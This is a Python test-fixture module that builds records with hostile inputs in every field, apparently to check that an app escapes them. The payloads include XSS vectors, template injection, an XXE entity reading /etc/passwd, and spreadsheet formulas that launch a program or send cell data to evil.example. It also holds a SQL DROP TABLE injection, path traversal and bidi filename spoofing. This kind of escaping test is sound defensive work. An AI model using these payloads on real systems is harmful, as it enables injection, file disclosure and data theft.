"""What somebody might write to do harm, and every field in which they could. Used here and in the browser."""

import copy
from typing import Any

from .factories import Plain, document

# Called by whatever of these should ever run; the tests define it.
RUN = "hasRun()"

PAYLOADS: dict[str, str] = {
    "element": f'<img src=x onerror="{RUN}"><b>bold</b>',
    "script": f"<script>{RUN}</script>",
    "end of an element": f"</script></textarea></title></style></template>--></svg><script>{RUN}</script>",
    "svg": f'<svg onload="{RUN}"><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "attribute": f'" autofocus onfocus="{RUN}" x="',
    "attribute, one mark": f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    "address": f"javascript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "style": "x}</style><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="javascript:{RUN}">',
    "template": "{{constructor.constructor('hasRun()')()}} ${hasRun()} {what} {0.__class__} %s %(x)s #{1}",
    "template of the build": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "comment": "<!-- --> <![CDATA[ ]]> <!-- <script> -->",
    "entities": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]> &a; &lt;b&gt; &#60;i&#62;',
    "formula": "=cmd|' /C calc'!A0",
    "formula, plus": "+1+HYPERLINK(\"http://evil.example/?\"&A1)",
    "formula, minus": "-2+3",
    "formula, at": "@SUM(1+1)",
    "formula, tab": "\t=1+1",
    "formula, line end": "\r\n=1+1",
    "formula, wide": "＝1+1",
    "end of a cell": 'a";=1+1;"b",=1+1\t=1+1',
    "line ends": "a\r\nX-HEADER: x\r\nEND:VEVENT\r\nBEGIN:VEVENT\nATTACH:http://evil.example/\rb",
    "calendar": "\\n;,\\,END:VCALENDAR;X=\"y\":z",
    "controls": "nul\x00 bell\x07 escape\x1b[31m\x1b]0;owned\x07 delete\x7f next\x85line",
    "turned round": "invoice\u202egpj.exe",
    "turned and left open": "\u2067\u202b\u2066\u202dleft open",
    "turned back": "\u2069\u202c\u2069closed too often",
    "right to left": "שלום עולם – مرحبا",
    "halves": "half \ud83d and \udc00\ud800",
    "odd line ends": "a\u2028b\u2029c\x0bd\x0ce",
    "no characters": "\ufeff\ufffe\uffff\U000e0001tag",
    "emoji": "👩🏽‍🌾 🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301\u0323",
    "many marks": "Z" + "\u0301\u0316" * 200,
    "one long word": "W" * 900,
    "names of programs": "__proto__",
    "constructor": "constructor",
    "text of an object": "toString",
    "way out of a folder": "../../../etc/passwd",
    "way out, Windows": "..\\..\\C:\\Windows\\CON.",
    "reserved name": "CON",
    "query": "'; DROP TABLE reflections; --",
    "field code": '_x0041_ { HYPERLINK "http://evil.example" } _x005f_',
    "markdown": f"[press](javascript:{RUN}) ![x](//evil.example/x.png) <http://evil.example>",
}  # fmt: skip

GROUP, DAY, MOMENT = "staff", "2026-11-22", "2026-11-22T10:00:00.000Z"
# Where a text can stand: names of fields, each with the way to it. `work` stands for all four ideas.
FIELDS: dict[str, tuple[str | int, ...]] = {
    "name": ("name",),
    "about": ("focus", "about"),
    "who wrote": ("perspective", "who"),
    "evidence": ("ideas", "work", "evidence"),
    "change": ("ideas", "work", "changes", 0, "text"),
    "change not chosen": ("ideas", "work", "changes", 1, "text"),
    "whose change": ("ideas", "work", "changes", 1, "source", "who"),
    "what": ("ideas", "work", "actions", 0, "what"),
    "who": ("ideas", "work", "actions", 0, "who"),
    "when": ("ideas", "work", "actions", 0, "when"),
    "how": ("ideas", "work", "actions", 0, "how"),
    "voice": ("ideas", "work", "voices", 0, "text"),
    "whose voice": ("ideas", "work", "voices", 0, "source", "who"),
    "earlier": ("ideas", "work", "earlier", "evidence"),
    "own what": ("actions", 0, "what"),
    "own who": ("actions", 0, "who"),
    "own when": ("actions", 0, "when"),
    "own how": ("actions", 0, "how"),
    "clash": ("clashes", 0, "text"),
    "point": ("ideas", "work", "recognised", 0),
    "unknown": ("unknown", "inside", 0),
    "unknown of an action": ("actions", 0, "unknown"),
    "other idea": ("ideas", "another", "evidence"),
}


def marked(payload: str, field: str) -> str:
    """A payload that can be told from the same one in another field."""
    return f"{payload} «{field}»"


def bare() -> Plain:
    """A document with every field there is, and nothing in any of them."""
    source = {"who": "", "group": GROUP, "reflection": "r2"}
    answers = {
        "stage": "basics",
        "evidence": "",
        "recognised": ["equal-value"],
        "rating": "amber",
        "changes": [
            {"id": "c1", "text": "", "chosen": True},
            {"id": "c2", "text": "", "chosen": False, "source": source},
        ],
        "actions": [{"id": "a1", "change": "c1", "what": "", "who": "", "when": "", "written": DAY,
                     "how": "", "status": "doing"}],
        "done": False,
        "voices": [{"id": "v1", "text": "", "source": source}],
        "earlier": {"stage": "not-yet", "rating": "red", "evidence": "", "changed": MOMENT},
    }  # fmt: skip
    own = {"id": "o1", "what": "", "who": "", "when": "", "written": DAY, "how": "", "status": "to-do",
           "unknown": ""}  # fmt: skip
    return document(
        id="r1", name="", focus={"kind": "service", "about": ""}, perspective={"group": GROUP, "who": ""},
        created=MOMENT, changed=MOMENT,
        ideas={"work": answers, "another": {"evidence": ""}}, actions=[own],
        clashes=[{"id": "k1", "path": "ideas.work.evidence", "text": ""}], unknown={"inside": [""]},
    )  # fmt: skip


def put(plain: Any, way: tuple[str | int, ...], value: Any) -> None:
    """Put a value into plain data."""
    for step in way[:-1]:
        plain = plain[step]
    plain[way[-1]] = value


def laden(payload: str) -> Plain:
    """A document that says a payload, marked by the field, in every field."""
    plain = copy.deepcopy(bare())
    for field, way in FIELDS.items():
        put(plain, way, marked(payload, field)[-200:] if field == "point" else marked(payload, field))
    return plain


def mixed(turn: int) -> Plain:
    """A document with another payload in each field; in as many turns as there are, each stood in each."""
    plain, several = copy.deepcopy(bare()), list(PAYLOADS.values())
    for place, (field, way) in enumerate(FIELDS.items()):
        text = marked(several[(place * 2 + turn) % len(several)], field)
        put(plain, way, text[-200:] if field == "point" else text)
    return plain
